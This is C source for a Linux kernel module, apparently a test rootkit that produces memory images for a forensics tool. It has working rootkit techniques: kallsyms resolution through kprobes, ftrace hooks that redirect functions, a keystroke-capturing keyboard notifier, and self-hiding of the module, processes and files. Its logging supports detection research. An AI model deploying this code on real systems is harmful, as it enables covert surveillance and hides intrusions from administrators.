// SPDX-License-Identifier: GPL-2.0
/*
 * memq-testkit core: symbol lookup, ftrace hooks, kprobes, netfilter hook, keyboard
 * notifier, self-hiding. See tk.h.
 *
 * Changed for memq's 6.12 image generator (scripts/testdata/rootkit-image): the module
 * layout printout uses struct module_memory on Linux >= 6.4 (core_layout is gone); the 6.1
 * printout is kept under #else; a kprobe asked for "the first boundary after the entry"
 * (offset < 0) skips the fentry site, which on IBT kernels (endbr64 first) is that boundary and
 * would make an ftrace-based probe instead of an int3/optimized one.
 */
#include <linux/atomic.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/keyboard.h>
#include <linux/list.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/version.h>
#include <net/net_namespace.h>
#include "tk.h"

/* Linux 6.4 replaced module.core_layout/init_layout (struct module_layout) by mem[MOD_MEM_NUM_TYPES]
 * (struct module_memory); memq's 6.12 test image needs the newer one. */
#define TK_MODULE_MEM (LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0))
#if TK_MODULE_MEM
#define TK_LAYOUT_FMT "module.mem=%zu module_memory.size_of=%zu module_memory.base=%zu module_memory.size=%zu"
#define TK_LAYOUT_ARGS offsetof(struct module, mem), sizeof(struct module_memory), \
	offsetof(struct module_memory, base), offsetof(struct module_memory, size)
#else
#define TK_LAYOUT_FMT "module.core_layout=%zu module_layout.base=%zu module_layout.size=%zu"
#define TK_LAYOUT_ARGS offsetof(struct module, core_layout), offsetof(struct module_layout, base), \
	offsetof(struct module_layout, size)
#endif

MODULE_LICENSE("GPL");
MODULE_AUTHOR("memq test images");
MODULE_DESCRIPTION(TK_DESCRIPTION);

int tk_module_hidden;

/* ---- kernel symbol lookup: kallsyms_lookup_name is not exported since 5.7; a temporary
 * kprobe on it gives its address (the usual trick), then it resolves everything else. ---- */
static unsigned long (*tk_kln)(const char *name);

unsigned long tk_lookup_name(const char *name)
{
	if (!tk_kln) {
		struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };

		if (register_kprobe(&kp) < 0)
			return 0;
		tk_kln = (void *)kp.addr;
		unregister_kprobe(&kp);
		tk_log("resolver kallsyms_lookup_name=%px via=temporary-kprobe", tk_kln);
	}
	return tk_kln(name);
}

/* ---- ftrace hooks (IP-modify: the traced function's call is redirected to ours) ---- */
#define TKF_DECL(n) extern struct tk_fhook TKSYM(fh_##n);
TK_FTRACE_HOOKS(TKF_DECL)
#define TKF_REF(n) &TKSYM(fh_##n),
static struct tk_fhook *tk_fhooks[] = { TK_FTRACE_HOOKS(TKF_REF) };

static void notrace TKSYM(ftrace_thunk)(unsigned long ip, unsigned long parent_ip,
					struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct tk_fhook *h = container_of(ops, struct tk_fhook, ops);
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* calls made by this module reach the original */
	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)h->replacement;
}

static int tk_fhook_install(struct tk_fhook *h)
{
	char buf[KSYM_NAME_LEN];
	int err;

	h->addr = tk_lookup_name(h->name);
	if (!h->addr) {
		tk_log("ftrace target=%s error=unresolved", h->name);
		return -ENOENT;
	}
	*(unsigned long *)h->orig = h->addr;
	h->ops.func = TKSYM(ftrace_thunk);
	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY;
	strscpy(buf, h->name, sizeof(buf));
	err = ftrace_set_filter(&h->ops, buf, strlen(buf), 0);
	if (err) {
		tk_log("ftrace target=%s error=ftrace_set_filter:%d", h->name, err);
		return err;
	}
	err = register_ftrace_function(&h->ops);
	if (err) {
		tk_log("ftrace target=%s error=register_ftrace_function:%d", h->name, err);
		ftrace_set_filter(&h->ops, NULL, 0, 1);
		return err;
	}
	h->installed = 1;
	tk_log("ftrace target=%s target_addr=%px ops=%px callback=%px replacement=%px flags=0x%lx trampoline=%px "
	       "trampoline_size=0x%lx",
	       h->name, (void *)h->addr, &h->ops, h->ops.func, h->replacement, h->ops.flags, (void *)h->ops.trampoline,
	       h->ops.trampoline_size);
	return 0;
}

/* ---- kprobes: offset >= 0 is used as given; offset < 0 = the first instruction boundary
 * after the function entry (so the probe is an int3/optimized probe, not an ftrace one) ---- */
struct tk_kprobe {
	const char *sym;
	int offset;
	struct kprobe kp;
	int installed;
};

static atomic_t tk_kp_hits = ATOMIC_INIT(0);

static int TKSYM(kprobe_pre)(struct kprobe *p, struct pt_regs *regs)
{
	atomic_inc(&tk_kp_hits);
	return 0;
}

#define TKK_DEF(s, o) { .sym = s, .offset = o },
static struct tk_kprobe tk_kprobes[] = { TK_KPROBES(TKK_DEF) };

static int tk_kprobe_install(struct tk_kprobe *k)
{
	int off, err = -EINVAL, first = k->offset < 0 ? 1 : k->offset, last = k->offset < 0 ? 64 : k->offset;

	for (off = first; off <= last; off++) {
		memset(&k->kp, 0, sizeof(k->kp));
		k->kp.symbol_name = k->sym;
		k->kp.offset = off;
		k->kp.pre_handler = TKSYM(kprobe_pre);
		err = register_kprobe(&k->kp);
		/* with IBT (6.12) the first boundary after endbr64 is the fentry call: that would be an
		 * ftrace-based probe, so keep looking for an int3/optimized one */
		if (!err && k->offset < 0 && (k->kp.flags & KPROBE_FLAG_FTRACE)) {
			unregister_kprobe(&k->kp);
			err = -EILSEQ;
			continue;
		}
		if (!err || err != -EILSEQ)
			break;
	}
	if (err) {
		tk_log("kprobe target=%s offset=%d error=%d", k->sym, k->offset, err);
		return err;
	}
	k->offset = off;
	k->installed = 1;
	tk_log("kprobe target=%s offset=0x%x probe_addr=%px kprobe=%px pre_handler=%px kp_flags=0x%x",
	       k->sym, off, k->kp.addr, &k->kp, k->kp.pre_handler, k->kp.flags);
	return 0;
}

/* ---- netfilter (init_net, IPv4): counts packets, accepts everything ---- */
static atomic_t tk_nf_hits = ATOMIC_INIT(0);

static unsigned int TKSYM(nf_hook)(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	atomic_inc(&tk_nf_hits);
	return NF_ACCEPT;
}

#define TKN_DEF(hn, prio) { .hook = TKSYM(nf_hook), .pf = NFPROTO_IPV4, .hooknum = hn, .priority = prio },
static struct nf_hook_ops tk_nf_ops[] = { TK_NF_HOOKS(TKN_DEF) };
static int tk_nf_installed[ARRAY_SIZE(tk_nf_ops)];

/* ---- keyboard notifier: a keylogger's hook; keeps the last keysyms in a small buffer ---- */
#if TK_KEYBOARD_NOTIFIER
static char TKSYM(keylog)[128];
static atomic_t tk_kbd_pos = ATOMIC_INIT(0);

static int TKSYM(kbd_notify)(struct notifier_block *nb, unsigned long action, void *data)
{
	struct keyboard_notifier_param *p = data;

	if (action == KBD_KEYSYM && p->down) {
		unsigned char c = p->value & 0xff;

		if (c >= 0x20 && c < 0x7f)
			TKSYM(keylog)[atomic_inc_return(&tk_kbd_pos) % (sizeof(TKSYM(keylog)) - 1)] = c;
	}
	return NOTIFY_OK;
}

static struct notifier_block tk_kbd_nb = { .notifier_call = TKSYM(kbd_notify) };
static int tk_kbd_installed;
#endif

/* ---- hiding ---- */
void tk_hide_module(const char *trigger)
{
	struct list_head *prev = THIS_MODULE->list.prev, *next = THIS_MODULE->list.next;

	if (tk_module_hidden)
		return;
	list_del(&THIS_MODULE->list);
	tk_module_hidden = 1;
	tk_log("hidden module=%s method=list_del trigger=%s this_module=%px list_prev_was=%px list_next_was=%px "
	       "list_next_now=%px list_prev_now=%px",
	       THIS_MODULE->name, trigger, THIS_MODULE, prev, next, THIS_MODULE->list.next, THIS_MODULE->list.prev);
}

static int TKSYM(hidden_pids)[8], tk_n_hidden_pids;
static DEFINE_SPINLOCK(tk_pid_lock);

int tk_hide_pid(int pid)
{
	int ok = 0;

	spin_lock(&tk_pid_lock);
	if (tk_n_hidden_pids < ARRAY_SIZE(TKSYM(hidden_pids))) {
		TKSYM(hidden_pids)[tk_n_hidden_pids++] = pid;
		ok = 1;
	}
	spin_unlock(&tk_pid_lock);
	if (ok)
		tk_log("hide_pid pid=%d table=%px", pid, TKSYM(hidden_pids));
	return ok ? 0 : -ENOSPC;
}

/* a directory entry to leave out: a name starting with TK_HIDE_PREFIX, or a hidden pid */
int tk_is_hidden_name(const char *name, int len)
{
	int i, pid = 0;

	if (len >= sizeof(TK_HIDE_PREFIX) - 1 && !memcmp(name, TK_HIDE_PREFIX, sizeof(TK_HIDE_PREFIX) - 1))
		return 1;
	if (len < 1 || len > 9)
		return 0;
	for (i = 0; i < len; i++) {
		if (name[i] < '0' || name[i] > '9')
			return 0;
		pid = pid * 10 + name[i] - '0';
	}
	for (i = 0; i < READ_ONCE(tk_n_hidden_pids); i++)
		if (TKSYM(hidden_pids)[i] == pid)
			return 1;
	return 0;
}

#ifdef TK_EXTRA_INIT
int TK_EXTRA_INIT(void);
#endif

static int __init TKSYM(init)(void)
{
	int i;

	/* structure offsets in this kernel build, for whoever checks the hooks in a memory image */
	tk_log("layout module.state=%zu module.list=%zu module.name=%zu " TK_LAYOUT_FMT " kprobe.hlist=%zu kprobe.list=%zu "
	       "kprobe.addr=%zu kprobe.symbol_name=%zu kprobe.offset=%zu "
	       "kprobe.pre_handler=%zu kprobe.flags=%zu ftrace_ops.func=%zu ftrace_ops.next=%zu ftrace_ops.flags=%zu "
	       "ftrace_ops.trampoline=%zu nf_hook_ops.hook=%zu nf_hook_ops.pf=%zu nf_hook_ops.hooknum=%zu "
	       "nf_hook_ops.priority=%zu notifier_block.notifier_call=%zu notifier_block.next=%zu "
	       "notifier_block.priority=%zu",
	       offsetof(struct module, state), offsetof(struct module, list), offsetof(struct module, name),
	       TK_LAYOUT_ARGS, offsetof(struct kprobe, hlist), offsetof(struct kprobe, list),
	       offsetof(struct kprobe, addr),
	       offsetof(struct kprobe, symbol_name), offsetof(struct kprobe, offset), offsetof(struct kprobe, pre_handler),
	       offsetof(struct kprobe, flags), offsetof(struct ftrace_ops, func), offsetof(struct ftrace_ops, next),
	       offsetof(struct ftrace_ops, flags), offsetof(struct ftrace_ops, trampoline),
	       offsetof(struct nf_hook_ops, hook), offsetof(struct nf_hook_ops, pf), offsetof(struct nf_hook_ops, hooknum),
	       offsetof(struct nf_hook_ops, priority), offsetof(struct notifier_block, notifier_call),
	       offsetof(struct notifier_block, next), offsetof(struct notifier_block, priority));

#if TK_MODULE_MEM
	/* 6.4+: no contiguous core any more; text, data, rodata, ro_after_init and init text are separate
	 * allocations (struct module_memory mem[]). core_base/core_size name the text region here. */
	tk_log("module name=%s this_module=%px core_base=%px core_size=0x%x text_base=%px text_size=0x%x "
	       "data_base=%px data_size=0x%x rodata_base=%px rodata_size=0x%x ro_after_init_base=%px ro_after_init_size=0x%x "
	       "init_base=%px init_size=0x%x",
	       THIS_MODULE->name, THIS_MODULE, THIS_MODULE->mem[MOD_TEXT].base, THIS_MODULE->mem[MOD_TEXT].size,
	       THIS_MODULE->mem[MOD_TEXT].base, THIS_MODULE->mem[MOD_TEXT].size,
	       THIS_MODULE->mem[MOD_DATA].base, THIS_MODULE->mem[MOD_DATA].size,
	       THIS_MODULE->mem[MOD_RODATA].base, THIS_MODULE->mem[MOD_RODATA].size,
	       THIS_MODULE->mem[MOD_RO_AFTER_INIT].base, THIS_MODULE->mem[MOD_RO_AFTER_INIT].size,
	       THIS_MODULE->mem[MOD_INIT_TEXT].base, THIS_MODULE->mem[MOD_INIT_TEXT].size);
#else
	tk_log("module name=%s this_module=%px core_base=%px core_size=0x%x core_text_size=0x%x core_ro_size=0x%x "
	       "init_base=%px init_size=0x%x",
	       THIS_MODULE->name, THIS_MODULE, THIS_MODULE->core_layout.base, THIS_MODULE->core_layout.size,
	       THIS_MODULE->core_layout.text_size, THIS_MODULE->core_layout.ro_size,
	       THIS_MODULE->init_layout.base, THIS_MODULE->init_layout.size);
#endif
	for (i = 0; i < ARRAY_SIZE(tk_fhooks); i++)
		tk_fhook_install(tk_fhooks[i]);
	for (i = 0; i < ARRAY_SIZE(tk_kprobes); i++)
		tk_kprobe_install(&tk_kprobes[i]);
	for (i = 0; i < ARRAY_SIZE(tk_nf_ops); i++) {
		int err = nf_register_net_hook(&init_net, &tk_nf_ops[i]);

		if (err) {
			tk_log("netfilter hooknum=%u priority=%d error=%d", tk_nf_ops[i].hooknum, tk_nf_ops[i].priority, err);
			continue;
		}
		tk_nf_installed[i] = 1;
		tk_log("netfilter net=%px pf=%u hooknum=%u priority=%d ops=%px hook=%px hooks_slot=%px",
		       &init_net, tk_nf_ops[i].pf, tk_nf_ops[i].hooknum, tk_nf_ops[i].priority, &tk_nf_ops[i],
		       tk_nf_ops[i].hook, &init_net.nf.hooks_ipv4[tk_nf_ops[i].hooknum]);
	}
#if TK_KEYBOARD_NOTIFIER
	{
		int err = register_keyboard_notifier(&tk_kbd_nb);

		if (err)
			tk_log("keyboard_notifier error=%d", err);
		else {
			tk_kbd_installed = 1;
			tk_log("keyboard_notifier nb=%px notifier_call=%px priority=%d keylog=%px",
			       &tk_kbd_nb, tk_kbd_nb.notifier_call, tk_kbd_nb.priority, TKSYM(keylog));
		}
	}
#endif
#ifdef TK_EXTRA_INIT
	TK_EXTRA_INIT();
#endif
	tk_log("ready hidden=%d", tk_module_hidden);
	return 0;
}

static void __exit TKSYM(exit)(void)
{
	int i;

	/* only reachable while not hidden */
#if TK_KEYBOARD_NOTIFIER
	if (tk_kbd_installed)
		unregister_keyboard_notifier(&tk_kbd_nb);
#endif
	for (i = 0; i < ARRAY_SIZE(tk_nf_ops); i++)
		if (tk_nf_installed[i])
			nf_unregister_net_hook(&init_net, &tk_nf_ops[i]);
	for (i = 0; i < ARRAY_SIZE(tk_kprobes); i++)
		if (tk_kprobes[i].installed)
			unregister_kprobe(&tk_kprobes[i].kp);
	for (i = 0; i < ARRAY_SIZE(tk_fhooks); i++)
		if (tk_fhooks[i]->installed) {
			unregister_ftrace_function(&tk_fhooks[i]->ops);
			ftrace_set_filter(&tk_fhooks[i]->ops, NULL, 0, 1);
		}
}

/* (one more macro level so that the prefixed names are expanded before module_init stringifies them) */
#define tk_module_init(fn) module_init(fn)
#define tk_module_exit(fn) module_exit(fn)
tk_module_init(TKSYM(init));
tk_module_exit(TKSYM(exit));
